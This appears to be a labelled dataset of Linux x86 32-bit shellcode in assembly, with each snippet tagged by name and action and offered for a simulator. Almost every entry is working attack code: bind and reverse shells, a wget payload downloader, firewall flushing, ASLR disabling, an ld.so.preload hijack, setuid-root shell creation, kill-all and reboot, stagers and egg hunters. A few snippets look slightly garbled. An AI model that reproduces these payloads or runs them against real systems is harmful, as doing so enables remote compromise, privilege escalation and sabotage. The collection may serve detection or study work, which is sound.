; Linux, 32 bit: what is done, and the ways of asking for it. Harmless addresses and names; nothing here is ever executed but
; by the simulator. A line ";= NAME BITS | SYSTEM ARCHITECTURE | ACTION TEXT" opens each code and says what must be told.

;= linux_execveat 32 | linux x86 | call execveat 0
	xor eax, eax
	push eax
	push dword 0x68732f2f
	push dword 0x6e69622f
	mov ecx, esp
	xor ebx, ebx
	xor edx, edx
	xor esi, esi
	xor edi, edi
	mov ax, 358
	int 80h

;= linux_socket_direct 32 | linux x86 | bind 4444
	xor ebx, ebx
	mul ebx
	push ebx
	mov bl, 2
	push byte 1
	pop ecx
	mov ax, 359
	int 80h
	xchg ebx, eax
	push edx
	push edx
	push word 0x5c11
	push word 2
	mov ecx, esp
	mov dl, 16
	mov ax, 361
	int 80h
	xor ecx, ecx
	mov ax, 363
	int 80h
	cdq
	xor esi, esi
	mov ax, 364
	int 80h
	xchg ebx, eax
	push byte 2
	pop ecx
d:	mov al, 63
	int 80h
	dec ecx
	jns d
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	xor ecx, ecx
	mov al, 11
	int 80h

;= linux_udp_reverse 32 | linux x86 | connect 192.0.2.9
	push byte 102
	pop eax
	cdq
	push edx
	push byte 2
	push byte 2
	mov ecx, esp
	xor ebx, ebx
	inc ebx
	int 80h
	mov edi, eax
	push dword 0x090200c0
	push word 0x3500
	push word 2
	mov ecx, esp
	push byte 16
	push ecx
	push edi
	mov ecx, esp
	push byte 3
	pop ebx
	push byte 102
	pop eax
	int 80h
	mov ebx, edi
	push byte 2
	pop ecx
r:	push byte 63
	pop eax
	int 80h
	dec ecx
	jns r
	push byte 11
	pop eax
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push edx
	push ebx
	mov ecx, esp
	int 80h

;= linux_bind6 32 | linux x86 | bind 4445
	xor eax, eax
	cdq
	push edx
	push byte 1
	push byte 10
	mov ecx, esp
	mov al, 102
	push byte 1
	pop ebx
	int 80h
	xchg esi, eax
	push edx
	push edx
	push edx
	push edx
	push edx
	push edx
	push word 0x5d11
	push word 10
	mov ecx, esp
	push byte 28
	push ecx
	push esi
	mov ecx, esp
	push byte 102
	pop eax
	inc ebx
	int 80h
	push edx
	push esi
	mov ecx, esp
	mov al, 102
	mov bl, 4
	int 80h
	push edx
	push edx
	push esi
	mov ecx, esp
	mov al, 102
	inc ebx
	int 80h
	xchg eax, ebx
	push byte 3
	pop ecx
l:	dec ecx
	push byte 63
	pop eax
	int 80h
	inc ecx
	loop l
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	mov ecx, edx
	push byte 11
	pop eax
	int 80h

;= linux_ptrace 32 | linux x86 | execute /bin//sh
	push byte 26
	pop eax
	xor ebx, ebx
	xor ecx, ecx
	push byte 1
	pop edx
	xor esi, esi
	int 80h
	test eax, eax
	js out
	push ecx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	cdq
	mov al, 11
	int 80h
out:	mov al, 1
	int 80h

;= linux_kill_all 32 | linux x86 | call process.terminate
	push byte 37
	pop eax
	push byte -1
	pop ebx
	push byte 9
	pop ecx
	int 80h

;= linux_reboot 32 | linux x86 | call system.shutdown
	xor eax, eax
	mov al, 36
	int 80h
	mov al, 88
	mov ebx, 0xfee1dead
	mov ecx, 672274793
	mov edx, 0x1234567
	int 80h

;= linux_iptables 32 | linux x86 | execute /sbin/iptables -F
	jmp short two
one:	pop esi
	xor eax, eax
	mov [esi + 14], al
	mov [esi + 17], al
	mov [esi + 18], esi
	lea ebx, [esi + 15]
	mov [esi + 22], ebx
	mov [esi + 26], eax
	mov ebx, esi
	lea ecx, [esi + 18]
	lea edx, [esi + 26]
	mov al, 11
	int 80h
two:	call one
	db '/sbin/iptablesX-FXAAAABBBBCCCC'

;= linux_symlink 32 | linux x86 | call file.copy /etc/passwd
	xor eax, eax
	push eax
	push dword 'swd'
	push dword '/pas'
	push dword '/etc'
	mov ebx, esp
	push eax
	push dword 'mp/x'
	push word '/t'
	mov ecx, esp
	mov al, 83
	int 80h

;= linux_rename 32 | linux x86 | call file.move /tmp/a
	jmp short b
a:	pop ebx
	xor eax, eax
	mov [ebx + 6], al
	lea ecx, [ebx + 7]
	mov [ecx + 6], al
	mov al, 38
	int 80h
	mov al, 1
	int 80h
b:	call a
	db '/tmp/a#/tmp/b#'

;= linux_rmdir 32 | linux x86 | call file.delete a
	xor edx, edx
	push edx
	push byte 'a'
	mov ebx, esp
	push byte 40
	pop eax
	int 80h

;= linux_aslr_off 32 | linux x86 | write //proc/sys/kernel/randomize_va_space
	xor eax, eax
	push eax
	push dword 'pace'
	push dword 'va_s'
	push dword 'ize_'
	push dword 'ndom'
	push dword 'l/ra'
	push dword 'erne'
	push dword 'ys/k'
	push dword 'oc/s'
	push dword '//pr'
	mov ebx, esp
	mov cx, 0x2bc
	mov al, 8
	int 80h
	mov ebx, eax
	push eax
	mov dx, 0x3a30
	push dx
	mov ecx, esp
	xor edx, edx
	inc edx
	mov al, 4
	int 80h
	mov al, 6
	int 80h
	inc eax
	int 80h

;= linux_ld_preload 32 | linux x86 | write /etc///ld.so.preload
	xor eax, eax
	cdq
	push edx
	push dword 'load'
	push dword '.pre'
	push dword 'd.so'
	push dword '///l'
	push dword '/etc'
	mov ebx, esp
	mov cx, 0x441
	mov dx, 0644o
	mov al, 5
	int 80h
	xchg eax, ebx
	call t
	db '/tmp/x.so', 10
t:	pop ecx
	push byte 10
	pop edx
	push byte 4
	pop eax
	int 80h

;= linux_fork_exec 32 | linux x86 | execute /bin//id
	push byte 2
	pop eax
	int 80h
	test eax, eax
	jz child
	push byte 1
	pop eax
	int 80h
child:	push byte 66
	pop eax
	int 80h
	push byte 11
	pop eax
	cdq
	push edx
	push dword '//id'
	push dword '/bin'
	mov ebx, esp
	push edx
	push ebx
	mov ecx, esp
	int 80h

;= linux_alarm 32 | linux x86 | call alarm 1
	push byte 27
	pop eax
	push byte 1
	pop ebx
	int 80h
	push byte 48
	pop eax
	push byte 14
	pop ebx
	push byte 1
	pop ecx
	int 80h
	push byte 29
	pop eax
	int 80h

;= linux_sendfile 32 | linux x86 | call sendfile
	xor ecx, ecx
	mul ecx
	push eax
	push dword 'sswd'
	push dword '//pa'
	push dword '/etc'
	mov ebx, esp
	mov al, 5
	int 80h
	mov ecx, eax
	xor ebx, ebx
	inc ebx
	mov esi, 4096
	mov al, 187
	int 80h

;= linux_setresuid 32 | linux x86 | execute /bin//sh
	xor ebx, ebx
	xor ecx, ecx
	mul ecx
	mov al, 164
	int 80h
	push edx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	mov al, 11
	int 80h

;= linux_setuidgid 32 | linux x86 | call setgid
	push byte 23
	pop eax
	xor ebx, ebx
	int 80h
	push byte 46
	pop eax
	int 80h
	push byte 1
	pop eax
	int 80h

;= linux_setreuid_chmod 32 | linux x86 | call file.attributes
	push byte 70
	pop eax
	xor ebx, ebx
	xor ecx, ecx
	int 80h
	push ecx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	mov cx, 04755o
	push byte 15
	pop eax
	int 80h

;= linux_read_jump 32 | linux x86 | call read 0
	xor ebx, ebx
	mul ebx
	mov al, 3
	mov ecx, esp
	mov dl, 0x7f
	int 80h
	jmp esp

;= linux_read_call 32 | linux x86 | call read 0
	push byte 3
	pop eax
	cdq
	mov dh, 8
	xor ebx, ebx
	sub esp, edx
	mov ecx, esp
	int 80h
	call ecx

;= linux_mprotect_read 32 | linux x86 | call mprotect
	push byte 125
	pop eax
	mov ebx, esp
	and ebx, 0xfffff000
	mov ecx, 0x1000
	push byte 7
	pop edx
	int 80h
	xor ebx, ebx
	mov ecx, esp
	push byte 127
	pop edx
	push byte 3
	pop eax
	int 80h
	jmp ecx

;= linux_sums 32 | linux x86 | execute /bin//sh
	xor eax, eax
	push eax
	mov eax, 0x57621e1e
	add eax, 0x11111111
	push eax
	mov eax, 0x5d58511e
	add eax, 0x11111111
	push eax
	mov ebx, esp
	xor ecx, ecx
	lea eax, [ecx + 11]
	cdq
	int 80h

;= linux_complements 32 | linux x86 | execute /bin//sh
	xor ecx, ecx
	push ecx
	mov edi, 0x978cd0d0
	not edi
	push edi
	mov edi, 0x9196
	mov edi, 0x91969dd0
	not edi
	push edi
	push esp
	pop ebx
	imul eax, ecx, 3
	add al, 11
	cdq
	int 80h

;= linux_stores 32 | linux x86 | execute /bin//sh
	sub esp, 12
	mov dword [esp], 0x6e69622f
	mov dword [esp + 4], 0x68732f2f
	xor eax, eax
	mov [esp + 8], eax
	lea ebx, [esp]
	mov ecx, eax
	mov edx, eax
	or al, 11
	int 80h

;= linux_shifted 32 | linux x86 | execute /bin/sh
	xor eax, eax
	cdq
	mov ebx, 0x68732f41
	shr ebx, 8
	push ebx
	push dword '/bin'
	mov ebx, esp
	mov ecx, edx
	mov al, 0xb
	int 80h

;= linux_eject 32 | linux x86 | call ioctl
	xor eax, eax
	push eax
	push dword 'drom'
	push dword 'v//c'
	push dword '//de'
	mov ebx, esp
	mov cx, 0x800
	mov al, 5
	int 80h
	mov ebx, eax
	mov cx, 0x5309
	mov al, 54
	int 80h

;= linux_beep 32 | linux x86 | call ioctl
	xor eax, eax
	push eax
	push dword 'sole'
	push dword '/con'
	push dword '/dev'
	mov ebx, esp
	xor ecx, ecx
	inc ecx
	mov al, 5
	int 80h
	mov ebx, eax
	mov cx, 0x4b30
	mov edx, 0x00640433
	push byte 54
	pop eax
	int 80h

;= linux_hostname 32 | linux x86 | call sethostname
	xor eax, eax
	push dword 'Root'
	mov ebx, esp
	push byte 4
	pop ecx
	mov al, 74
	int 80h

;= linux_tty_reopen 32 | linux x86 | execute /bin//sh
	xor ebx, ebx
	push byte 6
	pop eax
	int 80h
	push ebx
	push dword '/tty'
	push dword '/dev'
	mov ebx, esp
	xor ecx, ecx
	mov cx, 0x2712
	mov al, 5
	int 80h
	push byte 17
	pop eax
	push ecx
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push ecx
	push ebx
	mov ecx, esp
	mov al, 11
	cdq
	int 80h

;= linux_getppid_kill 32 | linux x86 | call process.terminate
	push byte 64
	pop eax
	int 80h
	mov ebx, eax
	push byte 9
	pop ecx
	push byte 37
	pop eax
	int 80h

;= linux_connect_retry 32 | linux x86 | connect 192.0.2.9
again:	push byte 102
	pop eax
	xor ebx, ebx
	push ebx
	inc ebx
	push ebx
	push byte 2
	mov ecx, esp
	int 80h
	xchg eax, esi
	push dword 0x090200c0
	push dword 0x5c110002
	mov ecx, esp
	push byte 16
	push ecx
	push esi
	mov ecx, esp
	push byte 102
	pop eax
	mov bl, 3
	int 80h
	test eax, eax
	jz conn
	push byte 0
	push byte 5
	mov ebx, esp
	xor ecx, ecx
	mov eax, 162
	int 80h
	jmp again
conn:	mov ebx, esi
	xor ecx, ecx
x:	mov al, 63
	int 80h
	inc ecx
	cmp cl, 3
	jne x
	xor eax, eax
	push eax
	push dword 'bash'
	push dword 'bin/'
	push word '//'
	mov ebx, esp
	mov ecx, eax
	cdq
	mov al, 11
	int 80h

;= linux_packet 32 | linux x86 | call recv
	push dword 0x300
	push byte 3
	push byte 17
	mov ecx, esp
	push byte 1
	pop ebx
	push byte 102
	pop eax
	int 80h
	mov edi, eax
	sub esp, 1024
l:	push byte 0
	lea ebx, [esp + 4]
	push dword 1000
	push ebx
	push edi
	mov ecx, esp
	push byte 10
	pop ebx
	push byte 102
	pop eax
	int 80h
	mov edx, eax
	mov ecx, [esp + 4]
	push byte 1
	pop ebx
	push byte 4
	pop eax
	int 80h
	add esp, 16
	jmp l

;= linux_getdents 32 | linux x86 | call getdents
	push byte '/'
	mov ebx, esp
	xor ecx, ecx
	mul ecx
	mov al, 5
	int 80h
	xchg eax, ebx
	sub esp, 0x400
	mov ecx, esp
	mov dx, 0x400
	push byte 0x7f
	pop eax
	add al, 14
	int 80h
	xchg edx, eax
	push byte 1
	pop ebx
	push byte 4
	pop eax
	int 80h

;= linux_vfork 32 | linux x86 | execute /bin/rm
	mov eax, 190
	int 80h
	test eax, eax
	jne p
	xor edx, edx
	push edx
	push dword '/rm0'
	mov byte [esp + 3], dl
	push dword '/bin'
	mov ebx, esp
	push edx
	push ebx
	mov ecx, esp
	mov eax, 11
	int 80h
p:	mov eax, 1
	int 80h

;= linux_delete_module 32 | linux x86 | call delete_module
	xor eax, eax
	mov al, 129
	cdq
	push edx
	push dword 'gger'
	push dword 'keyl'
	mov ebx, esp
	xor ecx, ecx
	int 80h

;= linux_umount 32 | linux x86 | call umount
	xor ecx, ecx
	push ecx
	push dword '/mnt'
	mov ebx, esp
	push byte 22
	pop eax
	int 80h

;= linux_write_hello 32 | linux x86 | call write
	jmp short m
w:	pop ecx
	xor edx, edx
	mov dl, 13
	xor ebx, ebx
	inc ebx
	push byte 4
	pop eax
	int 80h
	xor eax, eax
	inc eax
	int 80h
m:	call w
	db 'Hello, world!'

;= linux_egg_sigaction 32 | linux x86 | call sigaction
	cld
	xor ecx, ecx
p:	or cx, 0xfff
n:	inc ecx
	push byte 67
	pop eax
	int 80h
	cmp al, 0xf2
	jz p
	mov eax, 0x50905090
	mov edi, ecx
	scasd
	jnz n
	scasd
	jnz n
	jmp edi

;= linux_egg_rt_sigaction 32 | linux x86 | call rt_sigaction 0
	xor ebx, ebx
	xor edx, edx
	push byte 8
	pop esi
q:	or cx, 0xfff
r:	inc ecx
	mov eax, 174
	int 80h
	cmp al, 0xf2
	je q
	cmp dword [ecx], 0x746f6f77
	jne r
	cmp dword [ecx + 4], 0x746f6f77
	jne r
	add ecx, 8
	jmp ecx

;= linux_egg_access 32 | linux x86 | call access
	mov ebx, 0x50905090
	xor ecx, ecx
	mul ecx
a:	or dx, 0xfff
b:	inc edx
	pusha
	lea ebx, [edx + 4]
	mov al, 0x21
	int 80h
	cmp al, 0xf2
	popa
	jz a
	cmp [edx], ebx
	jnz b
	cmp [edx + 4], ebx
	jnz b
	jmp edx

;= linux_egg_simple 32 | - x86 | -
	mov eax, 0xdeadbeef
	inc eax
	mov edx, esp
c:	inc edx
	cmp dword [edx - 4], eax
	jne c
	jmp edx

;= linux_wget 32 | linux x86 | execute //usr/bin/wget 192.0.2.4/x -q
	push byte 11
	pop eax
	cdq
	push edx
	push word '-q'
	mov ecx, esp
	push edx
	call u
	db '192.0.2.4/x', 0
u:	pop esi
	push edx
	push dword 'wget'
	push dword 'bin/'
	push dword 'usr/'
	push word '//'
	mov ebx, esp
	push edx
	push ecx
	push esi
	push ebx
	mov ecx, esp
	int 80h

;= linux_find_port 32 | linux x86 | call getpeername 1
	xor edi, edi
	push edi
	mov ebp, esp
	push byte 16
	mov ecx, esp
	lea edx, [ecx + 4]
	push ecx
	push edx
	push edi
f:	mov ecx, esp
	inc dword [ecx]
	mov ebx, [ecx]
	push byte 7
	pop ebx
	push byte 102
	pop eax
	int 80h
	cmp word [ecx + 18], 0x3412
	jne f
	pop ebx
	xor ecx, ecx
	mov cl, 2
g:	mov al, 63
	int 80h
	dec ecx
	jns g
	push dword 0x68732f
	push dword '/bin'
	mov ebx, esp
	xor ecx, ecx
	mul ecx
	mov al, 11
	int 80h
